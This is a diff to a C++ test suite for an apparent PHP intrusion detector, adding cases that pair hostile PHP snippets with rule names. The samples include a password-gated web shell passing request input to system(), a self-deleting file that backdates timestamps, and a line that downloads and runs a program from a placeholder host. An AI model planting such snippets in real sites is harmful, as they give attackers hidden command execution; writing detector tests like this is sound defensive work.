@@ -75,6 +75,12 @@ TEST(Analysis, SeesWhatIntrudersLeave) {
        "php-account-made"},
       {"deletes itself, dates back", "<?php touch('./a.php', time() - 86400); unlink(__FILE__);",
        "php-covers-tracks", Level::suspicious},
+      {"a variable that nothing sets", "<?php if ($x) system($command);", "php-unset-executed",
+       Level::suspicious},
+      {"behind its own question",
+       "<?php function authenticate() { return $_POST['p'] == 'x'; } if (authenticate()) "
+       "system($_POST['c']);",
+       "php-request-to-command", Level::suspicious},
       {"fetches a program", "<?php shell_exec('cd /tmp; wget http://x.invalid/a; chmod 777 a; ./a');",
        "php-fetch-and-run", Level::suspicious},
       {"a name put together in a loop",
